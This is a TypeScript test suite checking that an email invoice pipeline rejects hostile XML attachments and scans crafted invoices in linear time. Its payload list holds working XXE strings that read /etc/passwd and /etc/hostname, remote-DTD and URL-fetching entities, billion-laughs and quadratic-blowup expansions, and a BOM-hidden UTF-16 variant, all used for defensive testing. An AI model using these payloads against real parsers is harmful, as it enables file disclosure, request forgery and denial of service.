import { embeddedPdfs } from '../../functions/documents/embedded-documents';
import { bufferWork } from '../support/buffer-work';
import { composeMail } from '../support/compose-mail';
import { MemoryPipeline } from '../support/memory-pipeline';
import { minimalPdf } from '../support/minimal-pdf';
import { type RequestCounter, startRequestCounter } from '../support/request-counter';

const UBL = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';
let remote: RequestCounter;

beforeAll(async () => {
  remote = await startRequestCounter();
});

afterAll(async () => {
  await remote.close();
});

/**
 * Bytes the embedded-PDF search may pass over per byte of the file: one forward search, plus the
 * tags near the root's start, each read to the end of the file (no value closes): about 37 today.
 */
const MAX_BYTES_PER_BYTE = 50;

/** An invoice whose body is `count` unclosed `EmbeddedDocumentBinaryObject>` tags. */
function crafted(count: number): Buffer {
  return Buffer.from(`<Invoice xmlns="${UBL}">${'EmbeddedDocumentBinaryObject>'.repeat(count)}`);
}

const laughs = [
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
].join('');

/** Hostile invoices: each declares a DOCTYPE that a careless parser would follow or expand. */
const PAYLOADS: ReadonlyArray<readonly [string, () => string | Buffer]> = [
  [
    'XXE reading a local file',
    () =>
      `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
      `<Invoice xmlns="${UBL}"><ID>&xxe;</ID></Invoice>`,
  ],
  [
    'XXE fetching a URL',
    () =>
      `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://${remote.host}/xxe">]>` +
      `<Invoice xmlns="${UBL}"><ID>&xxe;</ID></Invoice>`,
  ],
  [
    'a remote DTD through a parameter entity',
    () =>
      `<?xml version="1.0"?><!-- looks harmless --><!DOCTYPE Invoice [<!ENTITY % dtd SYSTEM "http://${remote.host}/evil.dtd"> %dtd;]>` +
      `<Invoice xmlns="${UBL}"/>`,
  ],
  [
    'an external DTD',
    () =>
      `<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://${remote.host}/invoice.dtd"><Invoice xmlns="${UBL}"/>`,
  ],
  [
    'billion laughs',
    () =>
      `<?xml version="1.0"?><!DOCTYPE Invoice [${laughs}]><Invoice xmlns="${UBL}"><ID>&lol9;</ID></Invoice>`,
  ],
  [
    'quadratic blowup',
    () =>
      `<?xml version="1.0"?><!DOCTYPE Invoice [<!ENTITY a "${'a'.repeat(50_000)}">]>` +
      `<Invoice xmlns="${UBL}"><ID>${'&a;'.repeat(50_000)}</ID></Invoice>`,
  ],
  [
    'XXE in UTF-16 behind a byte order mark',
    () =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(
          `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>` +
            `<Invoice xmlns="${UBL}"><ID>&xxe;</ID></Invoice>`,
          'utf16le',
        ),
      ]),
  ],
];

describe('hostile XML invoices', () => {
  it.each(PAYLOADS)('%s: no entity expanded, no file read, nothing fetched', async (_what, build) => {
    const pipeline = new MemoryPipeline();
    const raw = await composeMail({
      subject: 'Invoice',
      attachments: [{ filename: 'invoice.xml', contentType: 'application/xml', content: build() }],
    });
    const report = await pipeline.process(raw);

    // Bounded work is measured where it is done: readXmlRoot's scannedBytes (invoice-xml.test.ts).
    expect(pipeline.uploads).toEqual([]);
    expect(report.documents).toEqual([
      expect.objectContaining({
        filename: 'invoice.xml',
        decision: 'skip',
        reason: expect.stringContaining('declares a DOCTYPE'),
      }),
    ]);
    const text = JSON.stringify(report) + pipeline.logLines.join('\n');
    expect(text).not.toMatch(/root:|lollollol/);
    expect(remote.requests).toEqual([]);
    // Positive control: the counter does see a request that is made.
    await remote.control();
  });

  it('delivers a PDF beside a crafted invoice of 70,000 unclosed EmbeddedDocumentBinaryObject tags', async () => {
    const pipeline = new MemoryPipeline();
    const raw = await composeMail({
      subject: 'Invoice',
      attachments: [
        { filename: 'invoice.xml', contentType: 'application/xml', content: crafted(70_000) },
        { filename: 'invoice.pdf', content: minimalPdf('Beside a crafted XML') },
      ],
    });

    const report = await pipeline.process(raw);

    expect(report.outcome).toBe('delivered');
  });

  it('searches a crafted invoice for embedded PDFs in linear work (no quadratic scan)', () => {
    const small = crafted(17_500);
    const large = crafted(70_000);
    const work = (xml: Buffer): number => bufferWork(() => embeddedPdfs(xml));

    // Linear, four times the input is four times the work; quadratic, sixteen.
    expect(work(large)).toBeLessThanOrEqual(5 * work(small));
    expect(work(large)).toBeLessThan(MAX_BYTES_PER_BYTE * large.length);
    // Positive control: a search that looks for each tag's value to the end of the file, as the
    // quadratic version did, is caught by the same count.
    const quadratic = (xml: Buffer): number =>
      bufferWork(() => {
        for (let at = xml.indexOf('Embedded'); at >= 0; at = xml.indexOf('Embedded', at + 1))
          xml.indexOf('<', at);
      });
    expect(quadratic(large)).toBeGreaterThan(10 * quadratic(small));
  });
});
